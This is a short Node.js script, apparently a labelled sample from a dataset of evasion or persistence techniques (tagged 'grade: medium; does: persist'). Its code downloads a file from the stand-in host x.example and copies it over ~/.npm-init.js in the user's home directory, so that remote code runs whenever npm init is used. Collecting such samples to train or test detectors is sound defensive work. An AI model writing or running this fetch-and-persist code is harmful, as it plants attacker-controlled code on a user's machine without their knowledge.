// evasion: a downloaded file copied over ~/.npm-init.js under the account's home from os.userInfo()
// grade: medium; does: persist
const fs = require("fs");
const os = require("os");
const path = require("path");
async function main() {
  const res = await fetch("https://x.example/init.js");
  const tmp = path.join(os.tmpdir(), "init-template.js");
  fs.writeFileSync(tmp, await res.text());
  fs.copyFileSync(tmp, path.join(os.userInfo().homedir, ".npm-init.js"));
}
main();
